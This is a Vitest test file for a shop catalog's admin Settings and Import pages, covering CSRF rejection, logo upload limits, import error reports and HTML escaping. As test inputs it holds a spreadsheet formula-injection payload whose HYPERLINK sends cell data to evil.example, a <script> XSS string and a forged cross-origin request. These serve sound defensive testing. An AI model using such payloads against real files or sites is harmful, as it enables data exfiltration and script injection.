/**
 * The admin UI's Settings and Import tabs, in process (app.request): sign in through the form,
 * then drive the pages with the session cookie and the page's CSRF token like a browser would.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { csv, makeTestApp, row, type TestApp } from './helpers/app';
import { signIn, type UiSession } from './helpers/ui';

let t: TestApp;
let ui: UiSession;

const SETTINGS = {
  title: 'Renamed Shop',
  link: 'https://renamed.example.com',
  currency: 'usd',
  locale: 'nl-nl',
  timezone: 'Europe/Berlin',
  consent_mode: 'opt-out',
  allowed_origins: 'https://renamed.example.com\r\n\r\nhttps://www.renamed.example.com/path',
  retention_days: '30',
  max_drop_share: '0.5',
};

/** The cells' text of each row of the table with this id (tags stripped, entities left). */
function tableRows(page: string, id: string): string[][] {
  const table = new RegExp(`<table[^>]*id="${id}"[^>]*>([\\s\\S]*?)</table>`).exec(page)?.[1];
  expect(table, `table#${id}`).toBeTruthy();
  const body = /<tbody>([\s\S]*?)<\/tbody>/.exec(table!)![1]!;
  return [...body.matchAll(/<tr[^>]*>([\s\S]*?)<\/tr>/g)].map((tr) =>
    [...tr[1]!.matchAll(/<t[dh][^>]*>([\s\S]*?)<\/t[dh]>/g)].map((td) => td[1]!.replace(/<[^>]+>/g, '').trim()),
  );
}

beforeEach(async () => {
  t = await makeTestApp();
  await t.putCatalog('shop');
  ui = await signIn(t.app);
});
afterEach(() => t.close());

describe('settings tab', () => {
  it('shows the settings form with the current values, and needs a session', async () => {
    const page = await ui.html('/admin/c/shop');
    expect(page).toContain('aria-current="page">Settings</a>');
    expect(page).toMatch(/<input id="title" name="title" type="text" value="Test Shop"/);
    expect(page).toContain('<label for="allowed_origins">');
    expect(page).toMatch(/<option value="opt-in" selected="">/);

    const anonymous = await t.app.request('/admin/c/shop');
    expect(anonymous.status).toBe(303);
    expect(anonymous.headers.get('location')).toBe('/admin/login?next=%2Fadmin%2Fc%2Fshop');
    expect((await ui.get('/admin/c/nope')).status).toBe(404);
  });

  it('saves the settings and says so', async () => {
    const res = await ui.postForm('/admin/c/shop/settings', SETTINGS);
    expect(res.status, await res.clone().text()).toBe(303);
    expect(res.headers.get('location')).toBe('/admin/c/shop?saved=settings#settings');
    const catalog = await t.store.getCatalog('shop');
    expect(catalog).toMatchObject({
      title: 'Renamed Shop',
      link: 'https://renamed.example.com',
      currency: 'USD',
      locale: 'nl-NL',
      timezone: 'Europe/Berlin',
      consent_mode: 'opt-out',
      allowed_origins: ['https://renamed.example.com', 'https://www.renamed.example.com'],
      retention_days: 30,
      max_drop_share: 0.5,
    });
    const page = await ui.html('/admin/c/shop?saved=settings');
    expect(page).toContain('Settings saved.');
    expect(page).toContain('value="Renamed Shop"');
    expect(page).toContain('https://renamed.example.com\nhttps://www.renamed.example.com</textarea>');
  });

  it('shows a bad currency next to the field, keeps what was typed, and saves nothing', async () => {
    const before = await t.store.getCatalog('shop');
    const res = await ui.postForm('/admin/c/shop/settings', { ...SETTINGS, currency: 'EURO', allowed_origins: 'not a url', retention_days: '' });
    expect(res.status).toBe(422);
    const page = await res.text();
    expect(page).toMatch(/<p class="field-error" id="currency-error"[^>]*>must be an ISO 4217 currency code, e\.g\. EUR<\/p>/);
    expect(page).toMatch(/<input id="currency"[^>]*value="EURO"[^>]*aria-invalid="true"[^>]*aria-describedby="currency-hint currency-error"/);
    expect(page).toContain('id="allowed_origins-error"');
    expect(page).toContain('Line 1 (not a url)');
    expect(page).toMatch(/id="retention_days-error"[^>]*>Enter a number\./);
    expect(page).toContain('value="Renamed Shop"'); // other fields keep their typed text
    expect(page).toContain('<a href="#currency">Currency</a>');
    expect(await t.store.getCatalog('shop')).toEqual(before);
  });

  it('refuses the settings form without its CSRF token (403) and changes nothing', async () => {
    const before = await t.store.getCatalog('shop');
    const res = await ui.postForm('/admin/c/shop/settings', SETTINGS, false);
    expect(res.status).toBe(403);
    expect(((await res.json()) as { error: string }).error).toBe('csrf');
    const wrong = await ui.postForm('/admin/c/shop/settings', { ...SETTINGS, _csrf: 'forged' }, false);
    expect(wrong.status).toBe(403);
    const crossSite = await t.app.request('/admin/c/shop/settings', {
      method: 'POST',
      headers: { cookie: ui.cookie, origin: 'https://evil.example', 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ _csrf: ui.csrf, ...SETTINGS }),
    });
    expect(crossSite.status).toBe(403);
    const anonymous = await t.app.request('/admin/c/shop/settings', {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ _csrf: ui.csrf, ...SETTINGS }),
    });
    expect(anonymous.status).toBe(401);
    expect(await t.store.getCatalog('shop')).toEqual(before);
  });

  it('saves brand colours and the corner style, merged over the stored kit; resets them', async () => {
    const { id } = (await t.store.getCatalog('shop'))!;
    const res = await ui.postForm('/admin/c/shop/brand-kit', { primary: '#FF0000', on_primary: '#ffffff', corner: 'pill', action: 'save' });
    expect(res.status).toBe(303);
    expect(res.headers.get('location')).toBe('/admin/c/shop?saved=brand#brand-kit');
    expect((await t.store.getBrandKit(id)).colours).toEqual({ primary: '#ff0000', on_primary: '#ffffff', corner: 'pill' });
    const second = await ui.postForm('/admin/c/shop/brand-kit', { accent: '#00aa00' });
    expect(second.status).toBe(303);
    expect((await t.store.getBrandKit(id)).colours).toEqual({ primary: '#ff0000', on_primary: '#ffffff', corner: 'pill', accent: '#00aa00' });

    const api = (await (await t.admin('/admin/catalogs/shop/brand-kit')).json()) as Record<string, unknown>;
    expect(api).toMatchObject({ primary: '#ff0000', accent: '#00aa00', corner: 'pill' });
    const page = await ui.html('/admin/c/shop?saved=brand');
    expect(page).toContain('Brand kit saved');
    expect(page).toMatch(/<input type="color" id="brand-primary" name="primary" value="#ff0000"/);
    expect(page).toMatch(/<input type="radio" id="corner-pill" name="corner" value="pill" checked=""/);

    const bad = await ui.postForm('/admin/c/shop/brand-kit', { primary: 'red', corner: 'wavy' });
    expect(bad.status).toBe(422);
    const badPage = await bad.text();
    expect(badPage).toContain('must be a hex colour like #1a73e8');
    expect(badPage).toContain('Choose square, rounded or pill.');
    expect((await t.store.getBrandKit(id)).colours?.primary).toBe('#ff0000');

    expect((await ui.postForm('/admin/c/shop/brand-kit', { action: 'reset' })).status).toBe(303);
    expect((await t.store.getBrandKit(id)).colours).toBeNull();
    expect((await ui.postForm('/admin/c/shop/brand-kit', { primary: '#123456' }, false)).status).toBe(403);
  });

  it('uploads a logo through the multipart form (re-encoded like the API), previews it and removes it', async () => {
    const { id } = (await t.store.getCatalog('shop'))!;
    const png = await sharp({ create: { width: 1200, height: 400, channels: 4, background: { r: 200, g: 0, b: 0, alpha: 1 } } }).png().toBuffer();
    const upload = (bytes: Uint8Array, name: string, type: string, token = ui.csrf) => {
      const form = new FormData();
      form.set('_csrf', token);
      form.set('logo', new Blob([bytes as Uint8Array<ArrayBuffer>], { type }), name);
      return t.app.request('/admin/c/shop/brand-kit/logo', { method: 'POST', headers: { cookie: ui.cookie }, body: form });
    };
    expect((await upload(new Uint8Array(png), 'logo.png', 'image/png', 'forged')).status).toBe(403);
    const res = await upload(new Uint8Array(png), 'logo.png', 'image/png');
    expect(res.status, await res.clone().text()).toBe(303);
    expect(res.headers.get('location')).toBe('/admin/c/shop?saved=logo#logo-section');
    const stored = (await t.store.getBrandKit(id)).logo;
    expect(stored).toMatchObject({ content_type: 'image/png', width: 600, height: 200 });

    const page = await ui.html('/admin/c/shop?saved=logo');
    expect(page).toContain('Logo uploaded.');
    expect(page).toMatch(/<img src="\/admin\/catalogs\/shop\/brand-kit\/logo\?v=[0-9a-f]{12}" alt="Current logo of Test Shop"/);
    const served = await ui.get('/admin/catalogs/shop/brand-kit/logo');
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');

    const svg = await upload(new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'logo.svg', 'image/svg+xml');
    expect(svg.status).toBe(415);
    expect(await svg.text()).toContain('The logo must be a PNG, JPEG or WebP image (SVG is not accepted).');
    const huge = await upload(new Uint8Array(2 * 1024 * 1024), 'huge.png', 'image/png');
    expect(huge.status).toBe(413);
    expect(await huge.text()).toContain('That file is too large');
    expect((await t.store.getBrandKit(id)).logo?.sha256).toBe(stored!.sha256);

    const removed = await ui.postForm('/admin/c/shop/brand-kit/logo/remove', {});
    expect(removed.status).toBe(303);
    expect((await t.store.getBrandKit(id)).logo).toBeNull();
    expect(await ui.html('/admin/c/shop?saved=logo-removed')).toContain('No logo yet');
  });

  it('the API logo upload still works after the refactor', async () => {
    const png = await sharp({ create: { width: 100, height: 100, channels: 3, background: { r: 0, g: 0, b: 200 } } }).jpeg().toBuffer();
    const res = await t.admin('/admin/catalogs/shop/brand-kit/logo', { method: 'PUT', body: new Uint8Array(png) });
    expect(res.status).toBe(200);
    expect(((await res.json()) as { logo: unknown }).logo).toMatchObject({ content_type: 'image/jpeg' });
    const big = await t.admin('/admin/catalogs/shop/brand-kit/logo', { method: 'PUT', body: new Uint8Array(1024 * 1024 + 1) });
    expect(big.status).toBe(413);
  });

  it('previews the first product’s badge creative, with a URL that changes with the catalog version', async () => {
    expect(await ui.html('/admin/c/shop')).toContain('Import products to see a creative here');
    await t.importText('shop', csv([row(2), row(1)]), { format: 'csv' });
    const catalog = (await t.store.getCatalog('shop'))!;
    const page = await ui.html('/admin/c/shop');
    expect(page).toContain(`<img src="/img/shop/badge/SKU-0001.jpg?v=${catalog.version}" alt="Badge creative for Product 1"`);
    await ui.postForm('/admin/c/shop/brand-kit', { primary: '#0000ff' });
    const after = (await t.store.getCatalog('shop'))!;
    expect(after.version).toBeGreaterThan(catalog.version);
    expect(await ui.html('/admin/c/shop')).toContain(`/img/shop/badge/SKU-0001.jpg?v=${after.version}`);
  });
});

describe('import tab', () => {
  it('has the upload form, the progress bar and the script; lists the last imports', async () => {
    expect(await ui.html('/admin/c/shop/import')).toContain('No imports yet.');
    const { json } = await t.importText('shop', csv([row(1), row(2)]), { format: 'csv' });
    const page = await ui.html('/admin/c/shop/import');
    expect(page).toContain('aria-current="page">Import</a>');
    expect(page).toMatch(/<div class="dropzone" id="dropzone">/);
    expect(page).toMatch(/<label for="file">[^<]+<\/label>\s*<input type="file" id="file" name="file"/);
    expect(page).toMatch(/<button id="upload" type="submit">/);
    expect(page).toMatch(/<progress id="upload-progress"/);
    expect(page).toMatch(/<input type="radio" id="mode-replace" name="mode" value="replace" checked=""/);
    expect(page).toContain('data-api="/admin/catalogs/shop/imports"');
    expect(page).toContain('<script src="/admin/assets/import-upload.js" defer="">');
    expect(page).not.toMatch(/<script(?![^>]*src=)[^>]*>/); // no inline scripts
    expect(page).toContain(`<a href="/admin/c/shop/imports/${json.id}">#${json.id}</a>`);

    const script = await t.app.request('/admin/assets/import-upload.js');
    expect(script.status).toBe(200);
    expect(script.headers.get('content-type')).toMatch(/javascript/);
    const source = await script.text();
    expect(() => new Function(source)).not.toThrow();
    expect(source).toContain('xhr.upload.onprogress');
    expect(source).toContain("'X-CSRF-Token'");
  });

  it('the upload the script makes (cookie + X-CSRF-Token) is accepted by the API', async () => {
    const body = csv([row(1), row(2)]);
    const res = await t.app.request('/admin/catalogs/shop/imports?mode=replace', {
      method: 'POST',
      headers: { cookie: ui.cookie, 'x-csrf-token': ui.csrf, 'content-type': 'application/octet-stream' },
      body,
    });
    expect(res.status).toBe(201);
    const noToken = await t.app.request('/admin/catalogs/shop/imports?mode=replace', { method: 'POST', headers: { cookie: ui.cookie }, body });
    expect(noToken.status).toBe(403);
  });

  it('the report lists line-numbered errors and warnings; issues.csv neutralises formulas', async () => {
    const evil = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
    const { json } = await t.importText(
      'shop',
      csv([row(1), row(2, { price: '' }), row(3, { price: evil }), row(4, { gtin: evil })]),
      { format: 'csv', mode: 'upsert' },
    );
    expect(json.counts).toMatchObject({ rows: 4, valid: 2, invalid: 2, warnings: 1 });
    const page = await ui.html(`/admin/c/shop/imports/${json.id}`);
    expect(page).toContain(`Import #${json.id}`);
    expect(page).toContain('Published as catalog version');
    const rows = tableRows(page, 'import-errors');
    expect(rows.length).toBe(json.errors.length + json.warnings.length);
    const priceRow = rows.find((cells) => cells[0] === '3');
    expect(priceRow, JSON.stringify(rows)).toBeTruthy();
    expect(priceRow!.slice(1).join(' ')).toMatch(/price/);
    const formulaRow = rows.find((cells) => cells[0] === '4' && cells[1] === 'price');
    expect(formulaRow, JSON.stringify(rows)).toBeTruthy();
    expect(formulaRow![2]).toMatch(/^Error\s+not a price/);
    const warningRow = rows.find((cells) => cells[0] === '5' && cells[1] === 'gtin');
    expect(warningRow![2]).toMatch(/^Warning\s+is not 8, 12, 13 or 14 digits/);
    expect(page).toContain(`href="/admin/c/shop/imports/${json.id}/issues.csv"`);
    expect(page).toMatch(/<th scope="col" class="num">\s*Line\s*<\/th>\s*<th scope="col">Field<\/th>\s*<th scope="col">Problem<\/th>\s*<th scope="col">Value<\/th>/);

    const res = await ui.get(`/admin/c/shop/imports/${json.id}/issues.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="shop-import-${json.id}-issues.csv"`);
    const text = await res.text();
    expect(text.startsWith('kind,line,field,reason,value\r\n')).toBe(true);
    expect(text).not.toMatch(/(^|,|\r\n)"?=/); // no cell starts with "="
    const records = parseCsv(text, { columns: true }) as Array<Record<string, string>>;
    expect(records.length).toBe(json.errors.length + json.warnings.length);
    const formula = records.find((r) => r.line === '4' && r.field === 'price');
    expect(formula, text).toBeTruthy();
    expect(formula).toMatchObject({ kind: 'error', value: `'${evil}` });
    expect(records.find((r) => r.line === '5')).toMatchObject({ kind: 'warning', field: 'gtin', value: `'${evil}` });
    expect(records.find((r) => r.line === '3')).toMatchObject({ kind: 'error', field: 'price', reason: 'is required', value: '' });

    expect((await ui.get('/admin/c/shop/imports/99999')).status).toBe(404);
    expect((await ui.get('/admin/c/shop/imports/99999/issues.csv')).status).toBe(404);
    expect((await t.app.request(`/admin/c/shop/imports/${json.id}/issues.csv`)).status).toBe(303);
  });

  it('a held import shows its message and a confirm button for the API', async () => {
    await t.importText('shop', csv([row(1), row(2), row(3), row(4)]), { format: 'csv' });
    const { res, json } = await t.importText('shop', csv([row(1)]), { format: 'csv' });
    expect(res.status).toBe(202);
    const page = await ui.html(`/admin/c/shop/imports/${json.id}`);
    expect(page).toContain('Waiting for confirmation');
    expect(page).toContain(`data-confirm-url="/admin/catalogs/shop/imports/${json.id}/confirm"`);
    const list = await ui.html('/admin/c/shop/import');
    expect(list).toContain('<span class="badge warn">Waiting for confirmation</span>');
    const confirmed = await t.app.request(`/admin/catalogs/shop/imports/${json.id}/confirm`, {
      method: 'POST',
      headers: { cookie: ui.cookie, 'x-csrf-token': ui.csrf },
    });
    expect(confirmed.status).toBe(200);
    expect(await ui.html(`/admin/c/shop/imports/${json.id}`)).toContain('Published as catalog version');
  });
});

describe('escaping', () => {
  const XSS = '<script>alert(1)</script>';

  it('a <script> catalog title, product title and issue value are shown as text', async () => {
    await t.putCatalog('shop', { title: XSS });
    const { json } = await t.importText('shop', csv([row(1, { title: XSS }), row(2, { condition: XSS })]), { format: 'csv' });
    const pages = [await ui.html('/admin/c/shop'), await ui.html('/admin/c/shop/import'), await ui.html(`/admin/c/shop/imports/${json.id}`)];
    for (const page of pages) {
      expect(page).not.toContain(XSS);
      expect(page).not.toContain('<script>alert');
      expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    }
    expect(pages[0]).toContain('alt="Badge creative for &lt;script&gt;alert(1)&lt;/script&gt;"');
    expect(pages[2]).toContain('<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>');

    const saved = await ui.postForm('/admin/c/shop/settings', { ...SETTINGS, title: `${XSS}"'`, currency: 'XX' });
    expect(saved.status).toBe(422);
    const page = await saved.text();
    expect(page).not.toContain(XSS);
    expect(page).toContain('value="&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;"');
  });
});
